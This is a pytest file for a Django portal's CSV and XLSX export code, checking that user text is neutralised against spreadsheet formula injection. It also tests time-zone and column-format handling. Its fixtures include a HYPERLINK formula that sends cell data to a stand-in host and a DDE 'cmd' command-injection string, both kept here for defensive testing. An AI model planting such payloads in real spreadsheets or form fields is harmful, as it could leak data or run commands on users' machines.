"""Every export cell written from user text is inert: no spreadsheet formula survives."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from portal.tabular import inert, respond
from tests.notices.builders import ack, publish_notice

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"y")'


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (FORMULA, "'" + FORMULA),
        ("+82 10 1234", "'+82 10 1234"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("홍길동", "홍길동"),
        (7, 7),
        (-3, -3),
        (None, None),
    ],
)
def test_inert(value, shown):
    assert inert(value) == shown


def _xlsx_rows(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows()]


def test_xlsx_text_is_never_a_formula():
    response = respond(["이름", "값"], [[FORMULA, 5], ["-2", -2]], "t", "xlsx")
    (_header, first, second) = _xlsx_rows(response)
    assert first[0].value == FORMULA
    assert first[0].data_type == "s" and first[0].quotePrefix
    assert first[1].value == 5 and first[1].data_type == "n"
    assert second[0].data_type == "s" and second[0].quotePrefix
    assert second[1].value == -2


def test_control_characters_do_not_break_an_xlsx_export():
    response = respond(["이름"], [["\x07벨"], ["=\x01A1"]], "t", "xlsx")
    (_header, first, second) = _xlsx_rows(response)
    assert first[0].value == "벨"
    assert second[0].value == "=A1" and second[0].data_type == "s" and second[0].quotePrefix


@pytest.mark.django_db
def test_notice_exports_neutralise_names_and_browsers(client, world):
    user = world.agent_a1.user
    user.name = "=cmd|' /C calc'!A0"
    user.save()
    notice = publish_notice(everyone=True)
    ack(notice, world.agent_a1, user_agent=FORMULA)
    client.force_login(world.client_manager)

    audit = client.get(reverse("notices:manage_audit", args=[notice.pk, "csv"]))
    text = b"".join(audit.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + FORMULA in cells
    assert "'=cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)

    audit = client.get(reverse("notices:manage_audit", args=[notice.pk, "xlsx"]))
    cells = [cell for row in _xlsx_rows(audit) for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    assert any(cell.value == FORMULA and cell.quotePrefix for cell in cells)


def test_moments_and_days_are_real_cells_in_the_portal_time_zone(settings):
    from datetime import UTC, date, datetime

    from portal.tabular import local_time_heading

    settings.TIME_ZONE = "Asia/Seoul"
    heading = local_time_heading("Acknowledged at")
    assert heading == "Acknowledged at (Asia/Seoul)"
    header = ["이름", heading, "Go-live"]
    rows = [["김하나", datetime(2026, 11, 25, 23, 30, 5, tzinfo=UTC), date(2026, 12, 1)]]

    sheet = load_workbook(io.BytesIO(respond(header, rows, "x", "xlsx").content)).active
    moment, day = sheet["B2"], sheet["C2"]
    assert moment.is_date and moment.value == datetime(2026, 11, 26, 8, 30, 5)  # 09:00 ahead
    assert moment.number_format == "yyyy-mm-dd hh:mm:ss"
    assert day.is_date and day.value.date() == date(2026, 12, 1)
    assert day.number_format == "yyyy-mm-dd"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:C2"
    assert sheet["A1"].font.bold
    # Wide enough for the heading (Hangul counts two) and never absurdly wide.
    assert sheet.column_dimensions["B"].width >= len(heading)
    assert all(8 <= sheet.column_dimensions[c].width <= 60 for c in "ABC")

    response = respond(header, rows, "x", "csv")
    raw = b"".join(response.streaming_content)
    assert raw.startswith("\ufeff".encode())
    lines = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert lines[1] == ["김하나", "2026-11-26 08:30:05", "2026-12-01"]


def test_a_long_export_is_filtered_to_its_last_row():
    rows = [[f"agent {i}", i] for i in range(1203)]
    sheet = load_workbook(io.BytesIO(respond(["a", "b"], iter(rows), "x", "xlsx").content)).active
    assert sheet.max_row == 1204
    assert sheet.auto_filter.ref == "A1:B1204"
    assert sheet["A1204"].value == "agent 1202"
